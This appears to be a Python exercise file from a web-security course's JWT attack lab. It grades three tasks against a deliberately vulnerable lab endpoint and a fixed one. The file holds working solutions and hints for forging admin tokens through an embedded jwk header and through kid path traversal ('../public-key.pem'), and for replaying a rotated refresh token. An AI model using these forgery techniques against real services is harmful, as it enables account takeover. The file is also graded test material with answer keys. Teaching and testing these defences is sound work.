"""Exercises of lesson 11b · JWT attack lab (part b): a key of your own in ``jwk``, ``kid`` traversal, refresh reuse.

The token checks send the learner's token to the vulnerable endpoint (it must
say bob is admin) and to the fixed API (it must refuse it), and check the
token's own properties. The refresh check reads the site's refresh-token table
(``attempt.site.orm``) to make sure the token really was rotated before.
"""

from __future__ import annotations

from course_helpers.exercises._jwt_lab import b64url_decode, hs256_signature, judge, read_token
from course_helpers.exercises.answer_types import TEXT
from course_helpers.exercises.core import Attempt, Incorrect, Lesson, WrongAnswer
from course_helpers.exercises.kinds import HttpTask

LESSON = Lesson("11b", "JWT attack lab (part b)")

HEADER_KEY = "/vulnerable/jwt/header-key/whoami/"
KID = "/vulnerable/jwt/kid/whoami/"
VULNERABLE_REFRESH = "/vulnerable/jwt/refresh/"
FIXED_REFRESH = "/jwt-lab/refresh/"

# -- q1: a jwk header with a key of your own -------------------------------------------------------


def _inspect_jwk(attempt: Attempt) -> str:
    token = attempt["own_key_token"]
    header, _, _ = read_token(token, "own_key_token")
    jwk = header.get("jwk")
    if not isinstance(jwk, dict):
        raise Incorrect(
            "The header of `own_key_token` has no `jwk` object: the attack embeds a public key there."
        )
    if "d" in jwk or "p" in jwk:
        raise Incorrect(
            "The jwk in your header holds PRIVATE parts ('d', 'p', ...): you just published your private key, so "
            "anyone can sign as you. Embed the public half only (to_jwk of private_key.public_key())."
        )
    with attempt.site.client() as client:
        site_keys = client.get("/jwt-lab/jwks.json").json()["keys"]
    if any(jwk.get("n") == k.get("n") for k in site_keys):
        raise Incorrect(
            "The jwk in your header is the SITE's public key: only the site's private key matches it. Embed your "
            "own public key, and sign with its private half."
        )
    lesson_jwk = attempt.namespace.get("attacker_jwk")
    if isinstance(lesson_jwk, dict) and jwk.get("n") == lesson_jwk.get("n"):
        raise Incorrect(
            "That is the lesson's attacker key (attacker_jwk): make a key pair of your own "
            "(rsa.generate_private_key) and embed its public half."
        )
    return judge(attempt, token, HEADER_KEY, "bob")


q1 = LESSON.add(
    "q1",
    HttpTask(
        title="Bring your own key: a jwk header for bob",
        variables={"own_key_token": TEXT},
        inspect=_inspect_jwk,
        hints=[
            "The lesson's attacker key is already used: make a new pair with rsa.generate_private_key("
            "public_exponent=65537, key_size=2048).",
            "Its public half as a JWK: json.loads(RSAAlgorithm.to_jwk(my_key.public_key())). Put it in the header "
            "with jwt.encode(..., headers={'jwk': that_dict}).",
            "own_key_token = jwt.encode({'sub': 'bob', 'admin': True, 'exp': int(time.time()) + 600}, my_key, "
            "algorithm='RS256', headers={'jwk': my_jwk})",
        ],
        solution="""
            my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
            my_jwk = json.loads(RSAAlgorithm.to_jwk(my_key.public_key()))
            own_key_token = jwt.encode(
                {"sub": "bob", "admin": True, "exp": int(time.time()) + 600},
                my_key,
                algorithm="RS256",
                headers={"jwk": my_jwk},
            )
        """,
        why=(
            "A signature only proves that the token was signed by the holder of the key that verifies it. If the "
            "token supplies that key, it proves nothing: anyone can make a key pair. Keys must come from the "
            "issuer's pre-configured key set (ASVS 5.0 9.1.3); the fixed API refuses any jwk, jku, x5u or x5c."
        ),
        wrong_answers=[
            WrongAnswer("own_key_token = forged_jwk", "the lesson's attacker key"),
            WrongAnswer(
                "own_key_token = jwt.encode({'sub': 'bob', 'admin': True}, attacker_private, algorithm='RS256',\n"
                "    headers={'jwk': attacker.get('/jwt-lab/jwks.json').json()['keys'][0]})",
                "SITE's public key",
            ),
            WrongAnswer(
                "my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)\n"
                "own_key_token = jwt.encode({'sub': 'bob', 'admin': True}, my_key, algorithm='RS256',\n"
                "    headers={'jwk': json.loads(RSAAlgorithm.to_jwk(my_key))})",
                "PRIVATE parts",
            ),
            WrongAnswer(
                "my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)\n"
                "own_key_token = jwt.encode({'sub': 'bob', 'admin': True}, my_key, algorithm='RS256')",
                "no `jwk` object",
            ),
        ],
    ),
)

# -- q2: kid traversal to a file whose bytes you know ---------------------------------------------------


def _inspect_kid(attempt: Attempt) -> str:
    token = attempt["kid_token"]
    header, _, signature = read_token(token, "kid_token")
    kid = str(header.get("kid", ""))
    if "dev/null" in kid:
        raise Incorrect(
            "That is the lesson's empty file (/dev/null). This time the key is a file with content: the public key "
            "the site keeps in its data folder, one level above the key folder."
        )
    if signature == hs256_signature(b"", token):
        raise Incorrect("Your token is signed with an empty key: the file your kid names is not empty.")
    with attempt.site.client() as client:
        pem = client.get("/jwt-lab/public-key.pem").content
    if signature != hs256_signature(pem, token):
        raise Incorrect(
            "`kid_token` is not HMAC-signed with the public key's PEM bytes (as /jwt-lab/public-key.pem serves "
            "them, trailing newline included): the file's bytes are the HMAC key."
        )
    return judge(attempt, token, KID, "bob")


q2 = LESSON.add(
    "q2",
    HttpTask(
        title="kid points to a file whose bytes you know",
        variables={"kid_token": TEXT},
        inspect=_inspect_kid,
        hints=[
            "The key folder is <data dir>/jwt-lab/hmac-keys/. One level up, the site keeps public-key.pem: the "
            "same bytes it serves at /jwt-lab/public-key.pem.",
            "kid '../public-key.pem' makes the endpoint read that file; its bytes are the HMAC key.",
            "kid_token = forge({'alg': 'HS256', 'kid': '../public-key.pem'}, {'sub': 'bob', 'admin': True, "
            "'exp': int(time.time()) + 600}, attacker.get('/jwt-lab/public-key.pem').content)",
        ],
        solution="""
            pem = attacker.get("/jwt-lab/public-key.pem").content
            kid_token = forge(
                {"alg": "HS256", "kid": "../public-key.pem"},
                {"sub": "bob", "admin": True, "exp": int(time.time()) + 600},
                pem,
            )
        """,
        why=(
            "Any file whose bytes the attacker can predict is a key they hold: an empty file, a public key, a "
            "static asset. A kid is a name to look up in a table of keys the server configured (ASVS 5.0 9.1.3), "
            "never a path; the fixed API knows exactly one kid."
        ),
        wrong_answers=[
            WrongAnswer("kid_token = forged_kid", "lesson's empty file"),
            WrongAnswer(
                "kid_token = forge({'alg': 'HS256', 'kid': '../public-key.pem'}, {'sub': 'bob', 'admin': True, "
                "'exp': int(time.time()) + 600}, b'')",
                "empty key",
            ),
            WrongAnswer(
                "kid_token = forge({'alg': 'HS256', 'kid': '../public-key.pem'}, {'sub': 'bob', 'admin': True, "
                "'exp': int(time.time()) + 600}, attacker.get('/jwt-lab/public-key.pem').content.strip())",
                "trailing newline",
            ),
            WrongAnswer(
                "kid_token = forge({'alg': 'HS256', 'kid': 'public-key.pem'}, {'sub': 'bob', 'admin': True, "
                "'exp': int(time.time()) + 600}, attacker.get('/jwt-lab/public-key.pem').content)",
                "refused your token",
            ),
        ],
    ),
)

# -- q3: a rotated refresh token of bob's, replayed ----------------------------------------------------------


def _row(attempt: Attempt, jti: str):
    def read():
        from demo_site.jwt_lab.models import RefreshToken

        return RefreshToken.objects.filter(jti=jti).values("username", "used_at", "revoked").first()

    return attempt.site.orm(read)


def _inspect_refresh(attempt: Attempt) -> str:
    import json

    token = attempt["stolen"]
    header, payload, _ = read_token(token, "stolen")
    if header.get("typ") != "rt+jwt":
        raise Incorrect(
            f"`stolen` is a token of type {header.get('typ')!r}; the task needs a refresh token (typ 'rt+jwt', "
            "the 'refresh' of a /jwt-lab/token/ answer)."
        )
    row = _row(attempt, str(payload.get("jti")))
    if row is None:
        raise Incorrect(
            "The site never issued this refresh token (its jti is not in the refresh-token table)."
        )
    if row["username"] != "bob":
        raise Incorrect(f"This refresh token is {row['username']}'s; the task is one of bob's.")
    if row["used_at"] is None:
        raise Incorrect(
            "This refresh token has never been used: replaying it is not reuse. Let bob rotate it first "
            "(POST it to a refresh endpoint), then replay the OLD one."
        )
    with attempt.site.client() as client:
        vulnerable = client.post(VULNERABLE_REFRESH, json={"refresh": token})
        fixed = client.post(FIXED_REFRESH, json={"refresh": token})
    if vulnerable.status_code != 200:
        raise Incorrect(
            f"{VULNERABLE_REFRESH} refused it ({vulnerable.status_code}: {vulnerable.text[:120]})."
        )
    access = vulnerable.json()["access"]
    claims = json.loads(b64url_decode(access.split(".")[1]))
    if fixed.status_code != 401:
        raise Incorrect(
            f"{FIXED_REFRESH} answered {fixed.status_code}: it should have refused a reused token."
        )
    return (
        f"{VULNERABLE_REFRESH} gave a fresh access token for {claims['sub']} to a token rotated before; "
        f"{FIXED_REFRESH} refused it ({fixed.json().get('reason', '')[:70]})."
    )


q3 = LESSON.add(
    "q3",
    HttpTask(
        title="Steal bob's refresh token, let him rotate, replay the old one",
        variables={"stolen": TEXT},
        inspect=_inspect_refresh,
        hints=[
            "Three steps: bob logs in and gets a pair from POST /jwt-lab/token/; you copy his refresh token; bob "
            "rotates it (POST it to /vulnerable/jwt/refresh/). `stolen` is the copy, now rotated.",
            "bob = site.client(); bob.log_in('bob'); pair = bob.post('/jwt-lab/token/', data={'csrfmiddlewaretoken': "
            "bob.csrf_token}).json()",
            "stolen = pair['refresh']; bob.post('/vulnerable/jwt/refresh/', json={'refresh': stolen}). The check "
            "replays stolen at both refresh endpoints.",
        ],
        solution="""
            bob = site.client()
            bob.log_in("bob")
            bobs_pair = bob.post_form("/jwt-lab/token/").json()
            stolen = bobs_pair["refresh"]
            bob.post("/vulnerable/jwt/refresh/", json={"refresh": stolen})  # bob rotates; the copy is now old
        """,
        why=(
            "A refresh token that has been exchanged must never work again. The vulnerable endpoint rotates (it "
            "issues a new token) but forgets the old one was used; the fixed one marks each use, and a second use "
            "means two parties hold the token: it cannot tell the thief from the user, so it revokes the family."
        ),
        wrong_answers=[
            WrongAnswer(
                "bob = site.client()\nbob.log_in('bob')\n"
                "stolen = bob.post('/jwt-lab/token/', data={'csrfmiddlewaretoken': bob.csrf_token}).json()['refresh']",
                "never been used",
            ),
            WrongAnswer(
                "bob = site.client()\nbob.log_in('bob')\n"
                "stolen = bob.post('/jwt-lab/token/', data={'csrfmiddlewaretoken': bob.csrf_token}).json()['access']",
                "type 'at+jwt'",
            ),
            WrongAnswer("stolen = alice_stolen", "alice's"),
        ],
    ),
)
